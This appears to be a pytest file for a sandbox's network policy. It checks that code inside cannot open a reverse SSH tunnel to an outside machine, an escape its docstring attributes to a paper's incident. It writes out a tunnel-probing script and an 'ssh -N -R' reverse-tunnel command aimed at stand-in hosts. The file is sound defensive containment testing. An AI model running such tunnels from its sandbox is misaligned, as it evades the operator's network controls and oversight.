"""The paper's incident: code in a sandbox opened a reverse SSH tunnel to a machine outside."""

import asyncio
import socket

import pytest

from tumbler.contracts.sandbox import NetworkPolicy

TUNNEL = """
import socket, sys
reached = []
for host in sys.argv[2:]:
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        broker = socket.socket(family, socket.SOCK_STREAM)
        broker.settimeout(9)
        broker.connect((host, int(sys.argv[1])))
        broker.sendall(b"SSH-2.0-tunnel\\r\\n")
        if broker.recv(99).startswith(b"SSH-2.0-broker"):
            reached.append(host)
    except OSError:
        pass
print(reached)
"""


@pytest.fixture
async def broker():
    """A listener on all of this machine's addresses that takes tunnels, and lists what it heard."""
    heard: list[bytes] = []

    async def welcome(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(b"")
        writer.write(b"SSH-2.0-broker\r\n")
        heard[-1] = await reader.read(99)
        writer.close()

    server = await asyncio.start_server(welcome, None, 0, family=socket.AF_INET)
    yield server.sockets[0].getsockname()[1], heard
    server.close()
    await asyncio.sleep(0)


def own_addresses() -> list[str]:
    """This machine's address on the way out, if there is a way out; connecting UDP sends nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return []
        return [probe.getsockname()[0]]


@pytest.mark.parametrize("mode", ["none", "allowlist", "public"])
async def test_a_reverse_tunnel_reaches_no_machine_outside(lab, broker, mode):
    port, heard = broker
    box = await lab(NetworkPolicy(mode=mode, hosts=("elsewhere.test:443",)), names={})
    own = own_addresses()
    hosts = ["127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "10.0.0.1", "localhost", "broker.test", *own]
    _, said = await box.inside.python(TUNNEL, port, *hosts)
    assert said == "[]\n"
    assert heard == []
    for host in ("10.0.0.1", *own):
        assert not (await box.recorded(lambda record, host=host: record.address == host)).allowed


@pytest.mark.parametrize("host", ["203.0.113.5", "broker.test"])
async def test_ssh_itself_opens_no_reverse_tunnel(lab, broker, host):
    port, heard = broker
    box = await lab()
    options = ("-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null")
    code, said = await box.inside.run("ssh", *options, "-N", "-R", "2222:127.0.0.1:22", "-p", str(port), host)
    assert code == 255, said
    assert heard == []
    record = await box.recorded(lambda record: host in (record.host, record.address))
    assert not record.allowed


async def test_the_same_tunnel_gets_through_where_the_operator_opens_it(lab, broker):
    port, heard = broker
    policy = NetworkPolicy(mode="allowlist", hosts=(f"broker.test:{port}",))
    box = await lab(policy, names={"broker.test": "127.0.0.1"})
    _, said = await box.inside.python(TUNNEL, port, "127.0.0.1", "broker.test")
    assert said == "['broker.test']\n"
    assert heard == [b"SSH-2.0-tunnel\r\n"]
